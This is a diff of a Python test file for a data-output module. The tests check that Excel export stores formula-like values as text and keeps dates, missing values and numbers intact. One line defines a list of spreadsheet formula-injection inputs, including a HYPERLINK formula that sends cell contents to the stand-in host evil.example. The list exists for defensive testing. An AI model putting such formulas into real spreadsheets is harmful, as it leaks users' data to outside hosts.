@@ -10,7 +10,7 @@ from qlr._output import (
     printable,
     restore_frame,
     safe_colour,
-    strings_stay_strings,
+    write_excel,
 )
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "plain", "-"]
@@ -41,16 +41,36 @@ def test_column_names_and_index_are_neutralised():
 def test_excel_holds_strings_not_formulas(tmp_path):
     import openpyxl
 
-    frame = pd.DataFrame({"label": ["=1+2", "Ann"], "n": [3, 4]})
-    path = tmp_path / "t.xlsx"
-    with pd.ExcelWriter(path, engine="openpyxl") as writer:
-        frame.to_excel(writer, sheet_name="t", index=False)
-        strings_stay_strings(writer.sheets["t"])
+    frame = pd.DataFrame({"=label": ["=1+2", "Ann"], "n": [3, 4]}, index=pd.Index(["=HYPERLINK(1)", "b"], name="case"))
+    path = write_excel(tmp_path / "t.xlsx", [("t", frame, True)])
     sheet = openpyxl.load_workbook(path)["t"]
     cells = {cell.coordinate: cell for row in sheet.iter_rows() for cell in row}
-    assert cells["A2"].value == "=1+2" and cells["A2"].data_type == "s"
-    assert cells["B2"].value == 3 and cells["B2"].data_type == "n"
+    assert [cells[c].value for c in ("A1", "B1", "C1")] == ["case", "=label", "n"]
+    assert cells["A2"].value == "=HYPERLINK(1)" and cells["A2"].data_type == "s"
+    assert cells["B2"].value == "=1+2" and cells["B2"].data_type == "s"
+    assert cells["C2"].value == 3 and cells["C2"].data_type == "n"
     assert not any(cell.data_type == "f" for cell in cells.values())
+
+
+def test_excel_keeps_missing_values_dates_and_numbers(tmp_path):
+    import openpyxl
+
+    frame = pd.DataFrame(
+        {
+            "when": pd.to_datetime(["2024-03-07 10:00", None]).tz_localize("UTC"),
+            "n": pd.array([1, None], dtype="Int64"),
+            "x": [0.5, float("nan")],
+            "flag": [True, False],
+            "text": pd.array(["a", pd.NA], dtype="string"),
+        }
+    )
+    path = write_excel(tmp_path / "t.xlsx", [("a very long sheet name beyond thirty-one", frame, False)])
+    book = openpyxl.load_workbook(path)
+    assert book.sheetnames == ["a very long sheet name beyond t"]
+    rows = [[cell.value for cell in row] for row in book.active.iter_rows()]
+    assert rows[0] == ["when", "n", "x", "flag", "text"]
+    assert rows[1][0].isoformat() == "2024-03-07T10:00:00" and rows[1][1:] == [1, 0.5, True, "a"]
+    assert rows[2] == [None, None, None, False, None]
 
 
 def test_terminal_text_cannot_forge_rows_or_move_the_cursor():
